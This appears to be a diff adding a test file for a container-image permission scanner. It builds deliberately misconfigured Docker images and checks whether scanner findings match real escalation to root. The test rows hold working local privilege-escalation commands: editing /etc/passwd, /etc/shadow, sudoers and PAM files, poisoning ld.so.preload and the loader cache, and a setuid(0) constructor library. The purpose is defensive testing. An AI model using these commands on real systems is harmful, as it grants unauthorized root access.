@@ -1,0 +1,135 @@
+/** Ground truth: USER of a started container tries to become root, and succeeds exactly if there is an error. */
+import { randomUUID } from 'node:crypto'
+import { afterAll, expect } from '@jest/globals'
+import { removeTemporaryFolders } from '../../helpers/bundle.ts'
+import { buildLayout, contextOf, docker, tryDocker } from '../../helpers/docker.ts'
+import { needs } from '../../helpers/needs.ts'
+import { runChecks } from '../../helpers/run-checks.ts'
+import { image, registry } from '../../helpers/things.ts'
+import { readLayout } from '../built.ts'
+
+const { describe, test } = await needs(...['debian:bookworm-slim', 'golang:1.26'].map(image), registry('Debian'))
+
+const names: string[] = []
+afterAll(async () => {
+  if (names.length > 0) await docker(['image', 'rm', '--force', ...names])
+  await removeTemporaryFolders()
+})
+
+/** A library that shows whose rights it is loaded with, and programs that ask for them. */
+const BASE = `FROM golang:1.26 AS library
+RUN printf '#include <unistd.h>\\nint misc_conv(void) { return 0; }\\n__attribute__((constructor)) static void f(void) { if (setuid(0) == 0) { write(1, "uid=0\\\\n", 6); _exit(0); } }\\n' > a.c \\
+ && gcc -shared -fPIC -o /libpam_misc.so.0 a.c
+FROM debian:bookworm-slim
+RUN apt-get update && apt-get install -y --no-install-recommends sudo opendoas && useradd -u 1000 app && useradd -u 1002 -g 0 zero
+COPY --from=library /libpam_misc.so.0 /lib.so
+`
+const APPEND = 'echo "r00t::0:0::/:/bin/sh" >>/etc/passwd; su r00t -c id'
+const PRELOAD = 'echo /lib.so >/etc/ld.so.preload; su -c id'
+const SUDO = 'echo "ALL ALL=NOPASSWD: ALL" >>/etc/sudoers; sudo -n id'
+
+type Row = [name: string, instructions: string, user: string, attack: string, finding: string | null, isRoot: boolean]
+
+const ROWS: Row[] = [
+  ['nothing', 'RUN true', '1000', APPEND, null, false],
+  ['accounts of USER', 'RUN chown 1000 /etc/passwd', '1000', APPEND, 'error', true],
+  ['accounts of everyone', 'RUN chmod 666 /etc/passwd', '1000', APPEND, 'error', true],
+  ['accounts of group 0', 'RUN chmod g=u /etc/passwd', '1001', APPEND, 'warning', true],
+  ['accounts of group 0 without su', 'RUN chmod g=u /etc/passwd && chmod u-s /usr/bin/su', '1001', APPEND, null, false],
+  ['accounts of another group', 'RUN chmod g=u /etc/passwd', '1000', APPEND, null, false],
+  [
+    'hashes',
+    'RUN chown 1000 /etc/shadow',
+    '1000',
+    'chmod u+w /etc/shadow; sed "s/^root:[^:]*:/root::/" /etc/shadow >/tmp/s; cat /tmp/s >/etc/shadow; su -c id',
+    'error',
+    true,
+  ],
+  [
+    'the directory',
+    'RUN chmod g+w /etc',
+    '1001',
+    'echo "r00t::0:0::/:/bin/sh" | cat /etc/passwd - >/etc/p; mv -f /etc/p /etc/passwd; su r00t -c id',
+    'error',
+    true,
+  ],
+  ['the sticky directory', 'RUN chmod 1777 /etc', '1000', PRELOAD, 'error', true],
+  ['preloaded libraries', 'RUN install -m 666 /dev/null /etc/ld.so.preload', '1000', PRELOAD, 'error', true],
+  [
+    'the cache of the loader',
+    'RUN chown 1000 /etc/ld.so.cache',
+    '1000',
+    'mkdir /tmp/l; cp /lib.so /tmp/l/libpam_misc.so.0; echo /tmp/l >/tmp/c; /sbin/ldconfig -X -f /tmp/c -C /tmp/cache; cat /tmp/cache >/etc/ld.so.cache; su -c id',
+    'error',
+    true,
+  ],
+  [
+    'a library in the cache',
+    'RUN install -D -o 1000 /lib/x86_64-linux-gnu/libpam_misc.so.0 /app/lib/libpam_misc.so.0 && echo /app/lib >/etc/ld.so.conf.d/0.conf && ldconfig',
+    '1000',
+    'cat /lib.so >/app/lib/libpam_misc.so.0; su -c id',
+    'error',
+    true,
+  ],
+  [
+    'the folders of ldconfig',
+    'RUN chown 1000 /etc/ld.so.conf',
+    '1000',
+    'echo /app >/etc/ld.so.conf; su -c id',
+    null,
+    false,
+  ],
+  [
+    'a file of PAM',
+    'RUN chmod 666 /etc/pam.d/common-auth',
+    '1000',
+    'echo "auth sufficient pam_permit.so" >/etc/pam.d/common-auth; su -c id',
+    'error',
+    true,
+  ],
+  [
+    'a module of PAM',
+    'RUN chown 1000 /lib/x86_64-linux-gnu/security/pam_rootok.so',
+    '1000',
+    'cat /lib.so >/lib/x86_64-linux-gnu/security/pam_rootok.so; su -c id',
+    'error',
+    true,
+  ],
+  ['settings of sudo, by group 0', 'RUN chmod 660 /etc/sudoers', 'zero', SUDO, 'error', true],
+  ['settings of sudo, of everyone', 'RUN chmod 666 /etc/sudoers', '1000', SUDO, null, false],
+  [
+    'settings of doas, by group 0',
+    'RUN install -m 664 /dev/null /etc/doas.conf',
+    'zero',
+    'echo "permit nopass zero" >/etc/doas.conf; doas -n id',
+    null,
+    false,
+  ],
+]
+
+async function verdict(instructions: string, user: string, attack: string, options: string[] = []) {
+  const name = `stagegate-test/escalation:${randomUUID()}`
+  const context = await contextOf(`${BASE}${instructions}\nUSER ${user}\n`)
+  const built = await readLayout(await buildLayout(context), 1)
+  await docker(['buildx', 'build', '--quiet', '--provenance=false', '--load', '--tag', name, context])
+  names.push(name)
+  const { results, findings } = runChecks(built, {})
+  const broken = results.filter(({ id, error }) => error && id.startsWith('permissions/'))
+  const run = ['run', '--rm', '--network', 'none', ...options, name]
+  const { stdout } = await tryDocker([...run, 'sh', '-c', `(${attack}) 2>/dev/null </dev/null`])
+  const [first] = findings.filter(
+    ({ check }) => check === 'permissions/writable-settings' || check === 'permissions/root-rule',
+  )
+  return { broken, finding: first?.severity ?? null, isRoot: stdout.includes('uid=0') }
+}
+
+describe('USER becomes root exactly if a finding says so', () => {
+  test.each(ROWS)('%s', async (_, instructions, user, attack, finding, isRoot) => {
+    expect(await verdict(instructions, user, attack)).toEqual({ broken: [], finding, isRoot })
+  })
+})
+
+test('not with no-new-privileges', async () => {
+  const options = ['--security-opt', 'no-new-privileges']
+  expect(await verdict('RUN chown 1000 /etc/passwd', '1000', APPEND, options)).toMatchObject({ isRoot: false })
+})
